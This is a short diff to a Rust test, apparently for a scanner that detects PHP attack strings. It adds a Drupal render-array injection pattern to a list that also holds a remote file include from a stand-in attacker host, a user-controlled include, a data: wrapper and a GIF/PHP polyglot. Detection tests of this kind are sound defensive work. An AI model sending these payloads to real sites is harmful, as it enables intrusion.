@@ -35,6 +35,7 @@ fn finds_php() {
             "include($_GET['x'])",
             "include('http://evil.example/x')",
             "data://text/plain;base64,eA==",
+            "mail[#post_render][]",
             "GIF89a<?php 1;",
         ],
     );
